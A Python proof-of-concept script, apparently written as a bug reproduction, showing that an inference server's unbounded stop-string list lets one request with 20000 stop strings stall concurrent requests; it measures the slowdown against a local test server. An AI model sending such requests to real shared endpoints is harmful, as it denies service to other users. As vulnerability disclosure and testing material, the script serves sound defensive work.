"""One request with many stop strings stalls every other request on the server: the stop matcher
(engine.detok.StopStringMatcher.push) runs on the engine thread for each sampled token, costing ~5 us per
stop string per token (20000 stops: ~100 ms a token), and nothing caps how many stop strings a request may
send (OpenAI allows 4). With n=16 each engine step pays that 16 times, for every client.

Server:  python -m engine.serve --port PORT --max-batch 8 --generation-config openai --served-model-name fuzz \
             --model /tmp/layerstream-gguf/SmolLM2-135M-Instruct.Q4_1.gguf --threads 1
Run:     python repro_stop_dos.py http://127.0.0.1:PORT [n_stops]
"""
import http.client
import json
import random
import sys
import threading
import time

HOST, PORT = sys.argv[1].removeprefix("http://").split(":")
N_STOPS = int(sys.argv[2]) if len(sys.argv) > 2 else 20000


def post(body, timeout=900):
    c = http.client.HTTPConnection(HOST, int(PORT), timeout=timeout)
    t = time.monotonic()
    c.request("POST", "/v1/completions", body=json.dumps(body), headers={"Content-Type": "application/json"})
    r = c.getresponse()
    out = r.read()
    return r.status, time.monotonic() - t, out


small = {"model": "fuzz", "prompt": "1, 2, 3,", "max_tokens": 20, "temperature": 0, "ignore_eos": True}
s, alone, _ = post(small)
print(f"small greedy request alone: {s} in {alone:.1f} s")

rng = random.Random(0)
stops = ["".join(rng.choice("qzxjk") for _ in range(30)) for _ in range(N_STOPS)]
heavy = {"model": "fuzz", "prompt": "Tell me a story", "max_tokens": 60, "n": 8, "ignore_eos": True,
         "temperature": 1, "seed": 1, "stop": stops}
print(f"heavy request body: {len(json.dumps(heavy)) / 1e6:.1f} MB, {N_STOPS} stop strings, n=8")
res = {}
t = threading.Thread(target=lambda: res.update(heavy=post(heavy)[:2]))
t.start()
time.sleep(3)  # the heavy request is decoding
s, beside, _ = post(small)
print(f"small greedy request beside it: {s} in {beside:.1f} s ({beside / alone:.0f}x)")
t.join()
print(f"heavy request: {res['heavy'][0]} in {res['heavy'][1]:.1f} s")
